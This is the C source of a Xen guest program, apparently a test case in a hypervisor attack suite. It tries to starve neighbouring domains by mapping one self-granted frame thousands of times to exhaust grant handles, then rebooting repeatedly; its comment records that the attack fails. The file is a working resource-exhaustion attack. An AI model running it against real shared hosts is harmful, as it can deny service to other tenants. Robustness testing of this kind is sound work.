/*
 * Wants: the neighbours' time, by ending with as many handles as a domain can have, and all pages of pins and frames of a table.
 *
 * 2,048 references of its own table name one frame; each is mapped 128 times, always at one and the same place, so that one entry is
 * all that the page tables have of it.  Then it reboots.
 *
 * Fails: what is freed at a domain's end is freed in pieces, between which others may run.
 */
#include "attack.h"
#include "grant.h"
#include "guest.h"
#include "memory.h"
#include "tap.h"

#include <paravane/hypercall.h>
#include <xen/grant_table.h>
#include <xen/sched.h>

#define FRAMES     64u
#define REFERENCES 2048u
#define MAPPINGS   128u
#define PER_FRAME  512u

static volatile grant_entry_v1_t *table[FRAMES];

static void table_show(void)
{
    static unsigned long frames[FRAMES];
    struct gnttab_setup_table setup = {.dom = DOMID_SELF, .nr_frames = FRAMES};

    set_xen_guest_handle(setup.frame_list, frames);
    hypercall_grant_table_op(GNTTABOP_setup_table, &setup, 1);
    for (unsigned i = 0; i < FRAMES; i++) {
        table[i] = page_alloc();
        if (frame_show((void *)table[i], frames[i], PTE_RW))
            tap_note("frame %u of the table is not shown", i);
    }
}

/* How many of the handles it got. */
static unsigned map_often(unsigned ref, void *window)
{
    static struct gnttab_map_grant_ref ops[MAPPINGS] __attribute__((aligned(4096)));
    unsigned made = 0;

    for (unsigned i = 0; i < MAPPINGS; i++)
        ops[i] = (struct gnttab_map_grant_ref){.host_addr = (uint64_t)window,
                                               .flags = GNTMAP_host_map,
                                               .ref = ref,
                                               .dom = grant_self()};
    hypercall_grant_table_op(GNTTABOP_map_grant_ref, ops, MAPPINGS);
    for (unsigned i = 0; i < MAPPINGS; i++)
        made += ops[i].status == GNTST_okay;
    return made;
}

void guest_main(void)
{
    unsigned made = 0;

    attack_begin("grant-handles");
    if (!attack_goes_on())
        guest_shutdown(SHUTDOWN_poweroff);
    table_show();
    void *window = page_alloc(), *page = page_alloc();
    for (unsigned k = 0; k < REFERENCES; k++) {
        /* Spread, so that all pages of pins are made. */
        const unsigned ref = k * (FRAMES * PER_FRAME / REFERENCES) + 8;
        volatile grant_entry_v1_t *e = &table[ref / PER_FRAME][ref % PER_FRAME];
        e->frame = (uint32_t)page_mfn(page);
        e->domid = grant_self();
        __atomic_thread_fence(__ATOMIC_SEQ_CST);
        e->flags = GTF_permit_access;
        made += map_often(ref, window);
    }
    tap_note("%u handles", made);
    attack_again();
}
